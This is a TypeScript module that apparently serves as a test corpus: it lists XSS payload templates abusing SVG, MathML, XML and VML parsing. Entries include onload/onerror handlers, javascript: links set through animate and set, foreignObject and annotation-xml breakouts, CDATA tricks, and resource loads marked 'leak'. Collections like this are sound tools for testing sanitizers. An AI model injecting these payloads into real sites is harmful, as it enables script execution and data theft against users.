import type { Payload } from './payload.ts';

/** Namespaces: animation of links, references, elements that mean one thing in SVG and another in HTML. */
export const SVG: Payload[] = [
  { name: 'svg: onload', body: '<svg onload={{run}}>', does: 'run' },
  { name: 'svg: script', body: '<svg><script>{{run}}</script></svg>', does: 'run' },
  { name: 'svg: script with entities', body: '<svg><script>&#x7b;&#x7d;{{run}}</script></svg>', does: 'run' },
  {
    name: 'svg: script by reference',
    body: '<svg><script href="{{leak}}"/><script xlink:href="{{leak}}"/></svg>',
    does: 'leak',
  },
  {
    name: 'svg: animate a link',
    does: 'run',
    body: '<svg><a><animate attributeName=href values="javascript:{{run}}"/><text x=20 y=20>x</text></a></svg>',
  },
  {
    name: 'svg: animate begins',
    body: '<svg><animate onbegin={{run}} attributeName=x dur=1s></svg>',
    does: 'run',
  },
  {
    name: 'svg: set',
    body: '<svg><a id=a xlink:href=x><set attributeName=xlink:href to="javascript:{{run}}"/><rect width=99 height=99 /></a></svg>',
  },
  {
    name: 'svg: use a data document',
    body: '<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJz48L3N2Zz4=#x" /></svg>',
  },
  {
    name: 'svg: image and feImage',
    body: '<svg width=99 height=99><image href="{{leak}}?1" width=9 height=9 /><filter id=f><feImage href="{{leak}}?2"/></filter><rect width=9 height=9 filter="url(#f)" /></svg>',
    does: 'leak',
  },
  {
    name: 'svg: FUNCIRI of another document',
    body: '<svg width=99 height=99><rect width=99 height=99 fill="url({{leak}}#a)" filter="url({{leak}}#b)" mask="url({{leak}}#c)" clip-path="url({{leak}}#d)" /></svg>',
    does: 'leak',
  },
  {
    name: 'svg: style element inside',
    body: '<svg><style>@import "{{leak}}"; *{background:url({{leak}})}</style></svg>',
    does: 'leak',
  },
  {
    name: 'svg: style read as HTML',
    body: '<svg><style><img src=x onerror={{run}}></style></svg>',
    does: 'run',
  },
  {
    name: 'svg: foreignObject',
    body: '<svg><foreignObject><body onload={{run}}><iframe srcdoc="<script>parent.{{run}}</script>"></iframe></foreignObject></svg>',
    does: 'run',
  },
  {
    name: 'svg: desc is an HTML integration point',
    body: '<svg><desc><img src=x onerror={{run}}></desc><title><p onclick={{run}}>x</title></svg>',
    does: 'run',
  },
  {
    name: 'svg: breakout element',
    body: '<svg><p><img src=x onerror={{run}}><font color=x><img src=x onerror={{run}}></svg>',
    does: 'run',
  },
  {
    name: 'svg: CDATA',
    body: '<svg><![CDATA[><img src=x onerror={{run}}>]]></svg><![CDATA[<img src=x onerror={{run}}>]]>',
  },
  {
    name: 'svg: handler by namespace prefix',
    body: '<svg:svg xmlns:svg="http://www.w3.org/2000/svg"><svg:script>{{run}}</svg:script></svg:svg><x:script xmlns:x="http://www.w3.org/1999/xhtml">{{run}}</x:script>',
  },
  {
    name: 'svg: events of discard and handler',
    body: '<svg><handler type="text/javascript" ev:event=load>{{run}}</handler><discard onbegin={{run}} /></svg>',
  },
  {
    name: 'math: maction link',
    body: '<math><maction actiontype="statusline#http://x" xlink:href="javascript:{{run}}">x</maction></math><math href="javascript:{{run}}">x</math>',
  },
  {
    name: 'math: annotation-xml',
    body: '<math><annotation-xml encoding="text/html"><img src=x onerror={{run}}></annotation-xml></math>',
    does: 'run',
  },
  {
    name: 'math: text integration point',
    body: '<math><mtext><table><mglyph><style><img src=x onerror={{run}}></style></mglyph></table></mtext></math>',
  },
  {
    name: 'xml: a whole SVG document',
    body: '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x "y">]><svg xmlns="http://www.w3.org/2000/svg" onload="{{run}}"><script>{{run}}</script></svg>',
    does: 'run',
  },
  {
    name: 'xml: a whole XHTML document',
    body: '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body><script>{{run}}</script></body></html>',
    does: 'run',
  },
  {
    name: 'xml: stylesheet instruction',
    body: '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="{{leak}}"?><a xmlns:x="http://www.w3.org/1999/xhtml"><x:script>{{run}}</x:script></a>',
  },
  {
    name: 'vml: behaviour',
    does: 'run',
    body: `<xml:namespace prefix=v /><v:rect style="behavior:url(#default#vml)" onmouseover="{{run}}"><v:fill src="{{leak}}" /></v:rect>`,
  },
];
